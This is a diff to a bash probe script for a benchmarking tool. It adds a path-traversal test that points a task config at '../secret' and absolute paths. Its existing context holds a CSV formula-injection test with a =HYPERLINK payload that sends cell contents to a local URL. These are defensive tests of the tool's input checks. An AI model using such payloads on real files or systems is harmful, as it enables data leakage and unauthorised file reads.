@@ -14,6 +14,24 @@ trap 'rm -rf "$W"' EXIT
 cf() { $PY -c 'from cfbench.cli import main; main()' "$@"; }
 verdict() { if [ "$1" = 0 ]; then echo "FIXED  $2"; else echo "OPEN   $2"; fi; }
 
+tiny() {  # a 2-layer random llama with SmolLM2's tokenizer (as tests/conftest.py's tiny_model), made once
+  [ -d "$W/tiny" ] || $PY - "$W/tiny" 2>/dev/null <<'PYEOF'
+import sys, torch
+from transformers import AutoTokenizer, LlamaConfig, LlamaForCausalLM
+from cfbench.models.checkpoint import resolve_checkpoint
+tok = AutoTokenizer.from_pretrained(resolve_checkpoint("smollm2-135m").path)
+torch.manual_seed(0)
+cfg = LlamaConfig(vocab_size=len(tok), hidden_size=32, intermediate_size=64, num_hidden_layers=2, num_attention_heads=4,
+                  num_key_value_heads=2, max_position_embeddings=2048, bos_token_id=tok.bos_token_id,
+                  eos_token_id=tok.eos_token_id, tie_word_embeddings=True)
+LlamaForCausalLM(cfg).save_pretrained(sys.argv[1]); tok.save_pretrained(sys.argv[1])
+PYEOF
+  echo "$W/tiny"
+}
+
+# one "error:" line and exit 2, naming $2
+one_line() { [ "$1" = 2 ] && [ "$(grep -c . <<<"$3" | tr -d ' ')" -ge 1 ] && ! grep -q Traceback <<<"$3" && grep -q -- "$2" <<<"$3"; }
+
 probe_csv_injection() {  # class 1
   printf 'dataset,version,metric,mode,"=HYPERLINK(""http://127.0.0.1:9/x?""&A1;""click"")"\nBoolQ,314797,accuracy,ppl,61.25\n' > "$W/oc.csv"
   cf import "$W/oc.csv" --results "$W/r1" >/dev/null 2>&1
@@ -25,5 +43,16 @@ probe_csv_injection() {  # class 1
   echo "$out" | grep -q '"name": "=HYPERLINK' ; verdict $? "1 leaderboard --format json keeps the name as it was"
 }
 
-PROBES=(probe_csv_injection)
+probe_data_path_escape() {  # class 2
+  m=$(tiny)
+  mkdir -p "$W/tasks2" "$W/secret" "$W/data2/SuperGLUE/COPA"; cp -rL cfbench/task_configs/. "$W/tasks2/"
+  echo '{"premise": "secret", "choice1": "a", "choice2": "b", "question": "cause", "label": 0}' > "$W/secret/secret.jsonl"
+  for bad in "../secret/secret.jsonl" "$W/secret/secret.jsonl"; do
+    sed "s#SuperGLUE/COPA/val.jsonl#$bad#" cfbench/task_configs/copa.yaml > "$W/tasks2/copa.yaml"
+    out=$(CFBENCH_TASK_DIR="$W/tasks2" cf eval "$m" --tasks copa --data-dir "$W/data2" --results "$W/r2" 2>&1); rc=$?
+    one_line $rc "stay inside" "$out"; verdict $? "2 task YAML data path $bad is refused in one line"; echo "$out" | tail -2 | sed "s/^/       /"
+  done
+}
+
+PROBES=(probe_csv_injection probe_data_path_escape)
 for p in "${@:-${PROBES[@]}}"; do "$p"; done
